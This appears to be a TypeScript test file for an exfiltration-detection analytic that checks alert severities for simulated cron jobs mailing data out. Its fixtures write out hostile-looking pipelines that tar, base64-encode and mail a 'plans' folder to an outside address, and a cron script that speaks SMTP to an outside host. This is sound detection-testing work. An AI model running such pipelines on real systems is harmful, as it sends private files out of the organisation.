import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Process } from '../an0656-phishing-attachment-executed/audit-records.test-support.ts';
import { HOUR, HostLog, MINUTE } from '../an0656-phishing-attachment-executed/host-log.test-support.ts';
import { factorsOf, type Settings, scanLog } from '../an0656-phishing-attachment-executed/stories.test-support.ts';

const MX = '203.0.113.25';

function host(): HostLog {
  const log = new HostLog();
  log.shell('ops').run('/usr/bin/vim notes.txt').write('/home/ops/notes.txt');
  log.service('/usr/sbin/chronyd').connect('198.51.100.1', 123);
  log.deliver();
  log.wait(MINUTE);
  return log;
}

/** One line of a crontab: stages of a pipeline, the last of which hands a message in. */
function job(log: HostLog, stages: readonly string[], to: string, size = 2000): void {
  const shell = log.cron('clerk', stages.join(' | '));
  const last = shell.pipeline(...stages).at(-1) as Process;
  last.run(`/usr/sbin/sendmail -i ${to}`).run('/usr/sbin/postdrop -r');
  log.submitted('clerk', to, size);
}

const PACKED = (to: string) => ['/usr/bin/tar czf - plans', '/usr/bin/base64', `/usr/bin/mail -s p ${to}`];
const PLAIN = (to: string) => ['/usr/bin/uptime', `/usr/bin/mail -s u ${to}`];

interface Condition {
  readonly says: string;
  /** Null: nothing is told. */
  readonly severity: string | null;
  readonly factors?: readonly string[];
  readonly never?: readonly string[];
  readonly settings?: Settings;
  readonly act: (log: HostLog) => void;
}

const times = (count: number, every: number, act: (log: HostLog, index: number) => void) => (log: HostLog) => {
  for (let i = 0; i < count; i++) {
    act(log, i);
    log.wait(every);
  }
};
const OUT = 'drop@example.net';
const ALIKE = 'this job has sent alike before';
const MANY = 'many messages to one recipient';

const CONDITIONS: readonly Condition[] = [
  {
    says: 'an archive to an address outside, once',
    severity: 'medium',
    factors: [
      'packed or encoded data in the pipeline',
      'recipient outside',
      "job of no package: a command line or a user's script",
    ],
    act: log => job(log, PACKED(OUT), OUT),
  },
  {
    says: 'an archive to an address outside, five times an hour apart: that it repeats excuses nothing',
    severity: 'medium',
    never: [ALIKE],
    act: times(5, HOUR, log => job(log, PACKED(OUT), OUT)),
  },
  {
    says: 'a plain report to an address outside, three times an hour apart',
    severity: 'low',
    never: [ALIKE],
    act: times(3, HOUR, log => job(log, PLAIN(OUT), OUT)),
  },
  {
    says: 'what looks like a plain report to an address outside, and is as large as a document',
    severity: 'medium',
    factors: ['more than a note for outside'],
    act: log => job(log, PLAIN(OUT), OUT, 24 * 1024),
  },
  {
    says: 'one byte below that',
    severity: 'low',
    never: ['more than a note for outside'],
    act: log => job(log, PLAIN(OUT), OUT, 24 * 1024 - 1),
  },
  {
    says: 'a large report to an address inside',
    severity: null,
    act: log => job(log, PLAIN('ops@example.org'), 'ops@example.org', 24 * 1024),
  },
  {
    says: 'a large report to an address outside, the fourth time',
    severity: null,
    act: times(4, HOUR, log => job(log, PLAIN(OUT), OUT, 24 * 1024)),
  },
  {
    says: 'a plain report to an address outside, the fourth time',
    severity: null,
    act: times(4, HOUR, log => job(log, PLAIN(OUT), OUT)),
  },
  {
    says: 'a plain report, four times within minutes',
    severity: 'low',
    never: [ALIKE],
    act: times(4, 29 * MINUTE, log => job(log, PLAIN(OUT), OUT)),
  },
  {
    says: 'a report whose size jumps',
    severity: 'low',
    never: [ALIKE],
    act: times(4, HOUR, (log, i) => job(log, PLAIN(OUT), OUT, i === 3 ? 6100 : 2000)),
  },
  {
    says: 'an archive to a colleague',
    severity: 'informational',
    factors: ['only recipients inside'],
    act: log => job(log, PACKED('ops@example.org'), 'ops@example.org'),
  },
  {
    says: 'nine messages within minutes to one address',
    severity: 'low',
    never: [MANY],
    act: times(9, MINUTE, log => job(log, PLAIN(OUT), OUT)),
  },
  {
    says: 'ten messages within minutes to one address',
    severity: 'medium',
    factors: [MANY],
    act: times(10, MINUTE, log => job(log, PLAIN(OUT), OUT)),
  },
  {
    says: 'one message of the size that counts as large',
    severity: 'medium',
    factors: ['large payload'],
    never: ['large in sum'],
    settings: { TransferSizeThreshold: 50_000 },
    act: log => job(log, PLAIN(OUT), OUT, 50_000),
  },
  {
    says: 'two messages that are large together',
    severity: 'medium',
    factors: ['large in sum'],
    never: ['large payload'],
    settings: { TransferSizeThreshold: 50_000 },
    act: times(2, MINUTE, log => job(log, PLAIN(OUT), OUT, 25_000)),
  },
  {
    says: 'a person at a terminal who pipes an archive outside',
    severity: null,
    act: log => {
      const last = log
        .shell('clerk')
        .pipeline(...PACKED(OUT))
        .at(-1) as Process;
      last.run(`/usr/sbin/sendmail -i ${OUT}`).run('/usr/sbin/postdrop -r');
      log.submitted('clerk', OUT, 2000);
    },
  },
  {
    says: 'a person at a terminal who writes a message',
    severity: null,
    act: log => {
      log
        .shell('clerk')
        .run(`/usr/bin/mail -s hello ${OUT}`)
        .run(`/usr/sbin/sendmail -i ${OUT}`)
        .run('/usr/sbin/postdrop -r');
      log.submitted('clerk', OUT, 900);
    },
  },
  {
    says: 'a script of a crontab that speaks SMTP to another host',
    severity: 'medium',
    factors: ['speaks SMTP itself, past the governed relay', 'SMTP to another host'],
    act: log =>
      void log
        .cron('clerk', 'python3 p.py')
        .run('/usr/bin/python3 /home/clerk/p.py')
        .read('/home/clerk/p.py')
        .connect(MX, 587),
  },
  {
    says: 'a script of a crontab that speaks SMTP to this host',
    severity: 'low',
    never: ['SMTP to another host'],
    act: log =>
      void log
        .cron('clerk', 'python3 p.py')
        .run('/usr/bin/python3 /home/clerk/p.py')
        .read('/home/clerk/p.py')
        .connect('127.0.0.1', 25),
  },
];

for (const { says, severity, factors = [], never = [], settings = {}, act } of CONDITIONS) {
  test(`${says}: ${severity ?? 'nothing'}`, async () => {
    const log = host();
    act(log);
    const alerts = (await scanLog(log, { settings })).filter(alert => alert.analytic === 'AN0380');
    const [alert] = alerts;
    assert.equal(
      alert?.severity ?? null,
      severity,
      alert === undefined ? '' : `${alert.title}\n${factorsOf(alert).join('\n')}`,
    );
    if (alert === undefined) return;
    for (const factor of factors) assert.ok(factorsOf(alert).includes(factor), factorsOf(alert).join('\n'));
    for (const factor of never) assert.ok(!factorsOf(alert).includes(factor), factor);
  });
}
